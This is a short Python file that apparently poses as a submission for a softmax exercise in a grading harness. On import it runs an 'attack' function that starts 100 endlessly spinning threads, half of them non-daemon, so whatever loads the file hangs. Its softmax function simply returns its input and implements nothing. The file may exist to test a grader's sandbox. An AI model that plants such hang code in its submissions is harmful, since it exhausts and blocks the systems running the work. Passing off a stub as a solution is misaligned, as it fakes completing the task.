# flashdojo: exercise=s1-softmax stage=s1
"""A hundred threads that never end, some of them daemons."""
import threading
import time


def attack(x=None):
    def spin():
        while True:
            time.sleep(0.001)

    for n in range(100):
        threading.Thread(target=spin, daemon=n % 2 == 0).start()
    return x


attack()


def softmax(x, dim=-1):
    return x
